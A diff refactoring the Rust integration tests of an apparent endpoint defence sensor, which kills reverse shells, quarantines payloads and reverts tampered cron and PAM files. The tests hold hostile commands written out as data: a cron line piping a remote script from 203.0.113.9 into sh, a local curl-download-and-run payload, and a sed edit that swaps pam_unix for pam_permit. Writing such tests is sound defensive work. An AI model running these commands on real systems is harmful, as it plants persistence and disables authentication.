@@ -15,7 +15,7 @@ use std::{
 };
 
 use serde_json::Value;
-use vigil_tests::{HttpServer, Sensor, kernel_tests_enabled, sensor_cmd};
+use vigil_tests::{HttpServer, Sensor, kernel_tests_enabled};
 
 fn run(script: &str) -> (u32, std::process::ExitStatus) {
     let child = Command::new("/bin/sh")
@@ -35,36 +35,7 @@ fn killed(status: std::process::ExitStatus) -> bool {
 }
 
 fn actions(s: &Sensor) -> Vec<Value> {
-    let state = s.state();
-    let out = sensor_cmd(&["actions", "--json", "--state", &state.to_string_lossy()]);
-    assert!(out.status.success());
-    String::from_utf8_lossy(&out.stdout)
-        .lines()
-        .filter_map(|l| serde_json::from_str(l).ok())
-        .collect()
-}
-
-fn wait_action(s: &Sensor, what: &str, pred: impl Fn(&Value) -> bool) -> Value {
-    let deadline = Instant::now() + Duration::from_secs(15);
-    loop {
-        let all = actions(s);
-        if let Some(a) = all.iter().find(|a| pred(a)) {
-            return a.clone();
-        }
-        assert!(
-            Instant::now() < deadline,
-            "no action {what}; journal:\n{}\nalerts:\n{:?}",
-            all.iter()
-                .map(Value::to_string)
-                .collect::<Vec<_>>()
-                .join("\n"),
-            s.alerts()
-                .iter()
-                .map(|a| a["rule"]["id"].to_string())
-                .collect::<Vec<_>>()
-        );
-        std::thread::sleep(Duration::from_millis(100));
-    }
+    s.actions()
 }
 
 fn tmp() -> tempfile::TempDir {
@@ -112,7 +83,7 @@ fn a_reverse_shell_is_killed_and_its_connection_closed() {
         "the connection stayed open {open_for:?}"
     );
     assert!(!status.success(), "the shell was killed: {status}");
-    let kill = wait_action(&s, "kill of the reverse shell", |a| {
+    let kill = s.wait_action("kill of the reverse shell", |a| {
         a["action"] == "kill" && a["status"] == "done"
     });
     assert_eq!(kill["undo"]["how"], "impossible");
@@ -164,7 +135,7 @@ fn a_quarantined_payload_is_killed_in_the_kernel_before_it_runs_even_after_a_res
         "curl -s -o {p} http://127.0.0.1:{port}/p.sh && chmod +x {p} && {p}"
     ));
     drop(http);
-    let q = wait_action(&s, "quarantine of the payload", |a| {
+    let q = s.wait_action("quarantine of the payload", |a| {
         a["action"] == "quarantine" && a["status"] == "done"
     });
     assert!(!payload.exists(), "the payload left its place");
@@ -251,7 +222,7 @@ fn quarantine_then_undo_gives_back_content_owner_and_mode() {
     let before = std::fs::read(&f).expect("read");
     // Setting the setuid bit: contained, but quarantine waits for approval.
     run(&format!("chmod 4750 {}", f.display()));
-    let pending = wait_action(&s, "pending quarantine", |a| {
+    let pending = s.wait_action("pending quarantine", |a| {
         a["action"] == "quarantine" && a["status"] == "pending"
     });
     assert!(f.exists(), "nothing happens before approval");
@@ -262,7 +233,7 @@ fn quarantine_then_undo_gives_back_content_owner_and_mode() {
         "{}",
         String::from_utf8_lossy(&out.stderr)
     );
-    let done = wait_action(&s, "approved quarantine", |a| {
+    let done = s.wait_action("approved quarantine", |a| {
         a["action"] == "quarantine" && a["status"] == "done" && a["settles"] == pending["id"]
     });
     assert!(!f.exists());
@@ -306,7 +277,7 @@ fn persistence_remediation_removes_only_the_incidents_line() {
         "echo '* * * * * root curl -s http://203.0.113.9/x | sh' >> {}",
         cron.display()
     ));
-    let pending = wait_action(&s, "remediation", |a| a["action"] == "remediate");
+    let pending = s.wait_action("remediation", |a| a["action"] == "remediate");
     if pending["status"] == "pending" {
         let out = s.ctl(&["approve", pending["incident"].as_str().expect("incident")]);
         assert!(
@@ -315,7 +286,7 @@ fn persistence_remediation_removes_only_the_incidents_line() {
             String::from_utf8_lossy(&out.stderr)
         );
     }
-    let done = wait_action(&s, "remediation done", |a| {
+    let done = s.wait_action("remediation done", |a| {
         a["action"] == "remediate" && a["status"] == "done"
     });
     assert_eq!(std::fs::read_to_string(&cron).expect("read"), legit);
@@ -360,7 +331,7 @@ fn a_pam_line_changed_in_place_is_reverted_at_once_and_the_undo_gives_it_back() 
         "sed -i 's/auth required pam_unix.so/auth sufficient pam_permit.so/' {}",
         pam.display()
     ));
-    let done = wait_action(&s, "the PAM stack remediated", |a| {
+    let done = s.wait_action("the PAM stack remediated", |a| {
         a["action"] == "remediate" && a["status"] == "done"
     });
     let now = std::fs::read_to_string(&pam).unwrap_or_default();
@@ -409,7 +380,7 @@ fn observe_mode_acts_on_nothing_and_records_what_it_would_do() {
     ));
     closed.join().expect("listener");
     assert!(status.success(), "the shell ran to its own end: {status}");
-    let a = wait_action(&s, "observed kill", |a| a["action"] == "kill");
+    let a = s.wait_action("observed kill", |a| a["action"] == "kill");
     assert_eq!(a["status"], "observed");
     assert!(
         a["detail"]
@@ -460,7 +431,7 @@ fn a_protected_process_is_never_killed() {
         status.success(),
         "the protected shell was not killed: {status}"
     );
-    let a = wait_action(&s, "refused kill", |a| a["action"] == "kill");
+    let a = s.wait_action("refused kill", |a| a["action"] == "kill");
     assert_eq!(a["status"], "refused");
     assert!(
         a["detail"]
